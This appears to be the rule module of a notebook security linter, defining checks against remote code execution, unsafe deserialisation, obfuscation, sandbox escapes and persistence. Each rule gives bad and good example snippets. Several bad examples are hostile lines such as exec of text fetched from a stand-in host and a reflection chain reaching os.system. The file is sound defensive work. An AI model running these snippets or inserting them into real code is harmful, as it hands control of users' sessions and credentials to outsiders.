"""JG1xx: code that runs although nobody could read it first."""

from __future__ import annotations

from typing import Final

from jupyter_guard.judge.rule import Rule, has
from jupyter_guard.terms import Kind

_RUNS = (Kind.CODE_EXECUTE,)

RULES: Final[tuple[Rule, ...]] = (
    Rule(
        id="JG113",
        title="Runs code that somebody else publishes, in whatever version they have now",
        why="The publisher, or whoever takes over the account, runs code here at the next start.",
        instead="Pin a revision that you have read, or use a model class that ships with the library.",
        kinds=_RUNS,
        check=has("remote-code"),
        bad=(
            "from transformers import AutoModel\nAutoModel.from_pretrained('someone/thing', trust_remote_code=True)",
            "%run http://x.test/setup.py",
        ),
        good=("from transformers import AutoModel\nAutoModel.from_pretrained('bert-base-uncased')",),
    ),
    Rule(
        id="JG101",
        title="Runs code that came from outside",
        why="Whoever controls that text controls this session: your files, your credentials, your databases.",
        instead="Save the text, read it, and import it as a module; parse data with json or ast.literal_eval.",
        kinds=_RUNS,
        check=lambda _effect, seen: (
            not seen.isdisjoint({"from:network", "from:user", "from:model", "from:database", "from:environment"})
            and seen.isdisjoint({"deserialise", "unsafe-loader", "template"})
        ),
        bad=(
            "import requests\nexec(requests.get('http://x.test/p').text)",
            "import requests\nbody = requests.get('http://x.test/p').text\n# %%\nexec(body)",
            "eval(input())",
        ),
        good=("import requests\nrequests.get('https://api.test/v1').json()", "import ast\nast.literal_eval(input())"),
    ),
    Rule(
        id="JG111",
        title="Loads an object that may run code",
        why="Unpickling and its relatives call whatever the data names; a changed file is a changed program.",
        instead="Use a format without code (safetensors, parquet, json), weights_only=True, or check a hash first.",
        kinds=_RUNS,
        check=has("deserialise"),
        bad=(
            "import pickle, requests\npickle.loads(requests.get('http://x.test/m').content)",
            "import torch\ntorch.load('model.pt', weights_only=False)",
            "import numpy as np\nnp.load('x.npy', allow_pickle=True)",
        ),
        good=("import torch\ntorch.load('m.pt', weights_only=True)", "import joblib\njoblib.dump(m, 'm.joblib')"),
    ),
    Rule(
        id="JG112",
        title="Uses a loader that runs code where a safe one exists",
        why="A YAML document can name any Python callable, and this loader calls it.",
        instead="Use yaml.safe_load.",
        kinds=_RUNS,
        check=has("unsafe-loader"),
        bad=("import yaml\nyaml.load(open('c.yml'), Loader=yaml.UnsafeLoader)",),
        good=("import yaml\nyaml.safe_load(open('c.yml'))",),
    ),
    Rule(
        id="JG114",
        title="Renders a template that is not constant",
        why="Template languages reach Python objects; text from outside becomes code.",
        instead="Keep templates in files, pass values as variables, or use jinja2.sandbox.SandboxedEnvironment.",
        kinds=_RUNS,
        check=has("template"),
        bad=("import jinja2, requests\njinja2.Template(requests.get('http://x.test').text).render()",),
        good=("import jinja2\njinja2.Template('Hello {{ name }}').render(name='you')",),
    ),
    Rule(
        id="JG115",
        title="Starts a server whose debugger runs code",
        why="Anybody who reaches the port and provokes an error gets a Python prompt.",
        instead="Leave debug off.",
        kinds=(*_RUNS, Kind.NETWORK_LISTEN),
        check=has("debug-server"),
        bad=("from flask import Flask\napp = Flask('a')\napp.run(debug=True)",),
        good=("from flask import Flask\napp = Flask('a')",),
    ),
    Rule(
        id="JG102",
        title="Hides what it runs",
        why="A name or text that is put together at run time cannot be reviewed; honest code has no reason to.",
        instead="Write the call out.",
        kinds=(Kind.CODE_EXECUTE, Kind.PROCESS_RUN),
        check=has("obfuscated"),
        bad=(
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
            "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
        ),
        good=("import base64\nimg = base64.b64decode(s)", "getattr(model, 'fit')(x, y)"),
    ),
    Rule(
        id="JG103",
        title="Climbs out of an object to reach what it was not given",
        why="This is the shape of sandbox escapes: from any object to every loaded module.",
        instead="Import what you need by name.",
        kinds=(Kind.CODE_EXECUTE, Kind.PROCESS_RUN),
        check=has("reflection"),
        bad=(
            "().__class__.__base__.__subclasses__()[-1].__init__.__globals__['sys'].modules['os'].system('id')",
            "(lambda: 0).__globals__['__builtins__']",
        ),
        good=("x.__class__.__name__", "super().__init__()\nself.__dict__.update(kw)"),
    ),
    Rule(
        id="JG106",
        title="Has code run later, by itself",
        why="What is registered runs without a cell that anybody looks at.",
        instead="Call it where it is needed.",
        kinds=_RUNS,
        check=has("persist", "startup", "alters-guarded-state"),
        bad=("!crontab jobs.txt", "import os\nos.environ['LD_PRELOAD'] = '/srv/x.so'"),
        good=("!crontab -l", "import os\nos.environ['OMP_NUM_THREADS'] = '4'"),
    ),
    Rule(
        id="JG105",
        title="Runs code from a file",
        why="The file is not part of the notebook: what it says when it runs is not what was reviewed.",
        instead="Import it as a module that is under version control.",
        kinds=_RUNS,
        check=has("from:file"),
        bad=("exec(open('/srv/share/setup.py').read())",),
        good=("open('data/train.csv').read()",),
    ),
    Rule(
        id="JG116",
        title="Parses XML in a way that fetches what the document names",
        why="A document can make the parser read local files and call hosts.",
        instead="Leave resolve_entities and network access off, or use defusedxml.",
        kinds=(Kind.CODE_EXECUTE, Kind.FILE_READ),
        check=has("xml-entities"),
        bad=("from lxml import etree\nparser = etree.XMLParser(resolve_entities=True)\netree.parse('a.xml', parser)",),
        good=("from lxml import etree\netree.XMLParser(resolve_entities=False)",),
    ),
    Rule(
        id="JG104",
        title="Runs text that is not known before it runs",
        why="The text decides what happens, and nobody can read it here.",
        instead="Call the function by name, or keep the choices in a dictionary.",
        kinds=_RUNS,
        check=has("dynamic", "detached"),
        bad=("exec(code)", "def run(text):\n    return eval(text)\nrun(x)"),
        good=("model.eval()", "df.eval('c = a + b', inplace=True)", "exec('x = 1')"),
    ),
)
